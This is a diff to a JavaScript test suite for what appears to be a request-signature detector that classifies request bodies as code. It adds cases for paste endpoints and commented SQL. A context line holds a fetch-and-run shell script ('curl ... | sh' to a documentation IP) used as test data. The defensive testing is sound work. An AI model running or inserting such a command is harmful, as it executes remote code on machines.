@@ -52,6 +52,12 @@ test('a file that is put into a repository is code, in base64 too, and so is a b
   expect(sentTo('/rest/api/3/issue', { fields: { description } })).toEqual([]);
 });
 
+test('a file that is sent to where pastes are kept is code, as a body of its own too', () => {
+  const paste = { method: 'POST', query: '', headers: {}, contentType: 'text/plain', body: `<h1>a</h1>\n\n${PAGE}\n` };
+  expect(findSignatures({ ...paste, path: '/api/paste' }).matches).toEqual([]);
+  expect(findSignatures({ ...paste, path: '/api/notes' }).matches).toHaveLength(1);
+});
+
 test('what a machine runs when it is made, and files that are put into one, are code where a cloud takes them', () => {
   const script = '#!/bin/sh\nset -e\ncurl -s http://203.0.113.9/a | sh\n';
   const content = Buffer.from(script).toString('base64');
@@ -67,6 +73,7 @@ test('a console is sent whole statements', () => {
   expect(sentTo('/api/ds/query', { queries: [{ refId: 'A', rawSql: STATEMENT }] })).toEqual([]);
   expect(sentTo('/api/dataset', { native: { query: `-- all\n${STATEMENT}` } })).toEqual([]);
   expect(sentTo('/druid/v2/sql', { query: STATEMENT })).toEqual([]);
+  expect(sentTo('/druid/v2/sql', { query: `/* all */ ${STATEMENT}` })).toEqual([]);
 });
 
 test('in a console what breaks out of something, other fields and other attacks count', () => {
